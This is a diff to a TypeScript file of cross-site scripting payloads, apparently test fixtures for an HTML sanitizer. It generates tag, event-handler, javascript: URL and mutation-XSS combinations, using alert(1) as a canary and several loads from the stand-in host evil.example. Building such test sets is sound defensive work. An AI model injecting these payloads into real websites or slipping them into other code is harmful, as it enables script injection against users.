@@ -1,5 +1,5 @@
 /** Markup that has run script, fetched, submitted or broken out somewhere before (T14). `alert(1)` is the canary of all of them. */
-export const payloads: readonly string[] = [
+const known: readonly string[] = [
   // script, in every spelling that a parser has taken
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
@@ -196,3 +196,29 @@ export const payloads: readonly string[] = [
   '<v:shape style="behavior:url(#default#VML)" onclick=alert(1)>x</v:shape>',
   '<html xmlns:t="urn:x"><t:set attributeName="innerHTML" to="<img src=x onerror=alert(1)>"></html>',
 ]
+
+const TAGS =
+  'svg img video audio source details body iframe frame object embed math marquee input select textarea button a area table td div form link base meta style template slot dialog portal custom-tag'.split(
+    ' ',
+  )
+const HANDLERS = [
+  'onerror',
+  'onload',
+  'onfocus autofocus',
+  'ontoggle open',
+  'onbeforetoggle popover',
+]
+
+/** Every element with handlers and with addresses that a browser would follow or fetch by itself. */
+const crossed = TAGS.flatMap((tag, at) => {
+  const handler = HANDLERS[at % HANDLERS.length] ?? 'onerror'
+  return [
+    `<${tag} ${handler}=alert(1) src=https://evil.example/${tag}>x</${tag}>`,
+    `<${tag} href="javascript:alert(1)" xlink:href="javascript:alert(1)" src="data:text/html,<script>alert(1)</script>">`,
+    `<svg><foreignObject><${tag} ${handler}="alert(1)" style="background:url(https://evil.example/${tag})">`,
+    `<math><mtext><${tag}><style><!--</style><img title="--&gt;&lt;/${tag}&gt;&lt;img src=x onerror=alert(1)&gt;">`,
+  ]
+})
+
+/** What a cleaner of HTML has to hold against, more than three hundred in all. */
+export const payloads: readonly string[] = [...known, ...crossed]
